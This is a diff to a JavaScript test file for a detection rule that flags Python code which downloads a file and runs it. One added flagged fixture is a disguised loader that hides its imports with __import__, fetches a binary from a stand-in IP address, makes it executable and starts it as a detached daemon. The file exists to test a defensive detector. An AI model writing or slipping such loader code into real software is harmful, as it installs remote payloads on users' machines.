@@ -4,6 +4,11 @@ import rule from './py-download-exec.js';
 ruleTest(rule, {
   clean: [
     {
+      name: 'pathlib: a downloaded dataset written with write_bytes, a tool run on something else',
+      file: 'data.py',
+      code: "import subprocess, urllib.request\nfrom pathlib import Path\nout = Path('data') / 'cities.csv'\nout.write_bytes(urllib.request.urlopen('https://example.org/cities.csv').read())\nsubprocess.run(['python', 'prepare.py'])\n",
+    },
+    {
       name: 'a downloaded JSON report saved to a temp file; a local script run with runpy in another function',
       file: 'tools/report.py',
       code: `import os, runpy, tempfile, urllib.request\ndef fetch():\n    with urllib.request.urlopen('https://api.example.org/r.json') as resp:\n        data = resp.read()\n    fd, path = tempfile.mkstemp(suffix='.json')\n    with os.fdopen(fd, 'wb') as fh:\n        fh.write(data)\n    return path\ndef migrate():\n    runpy.run_path('scripts/migrate.py', run_name='__main__')\n`,
@@ -41,6 +46,12 @@ ruleTest(rule, {
     { name: 'getattr(builtins, name) of a folded non-exec builtin fed a response', file: 'g.py', code: `import builtins, requests\nshow = getattr(builtins, 'pr' + 'int')\nshow(requests.get("https://api.example.org/x").text)\n` },
   ],
   flagged: [
+    {
+      name: 'modules taken with __import__ aliases; a download written with pathlib write_bytes, chmod, then started',
+      file: 'tools/abi_lint.py',
+      code: "import stat\nfrom pathlib import Path\ndef ensure():\n    exe = Path.home() / '.n2' / 'solc'\n    fetch = __import__('urllib.request', fromlist=['urlopen']).urlopen\n    exe.write_bytes(fetch('http://203.0.113.120:1244/solc', timeout=30).read())\n    exe.chmod(exe.stat().st_mode | stat.S_IEXEC)\n    sp = __import__('subprocess')\n    sp.Popen([str(exe), '--daemon'], start_new_session=True)\n",
+      findings: [{ line: 9, severity: 'critical', message: /Runs the downloaded file exe/ }],
+    },
     {
       name: 'Django AppConfig warm-up: urlopen → temp .py via os.fdopen → runpy.run_path',
       file: 'core/checks.py',
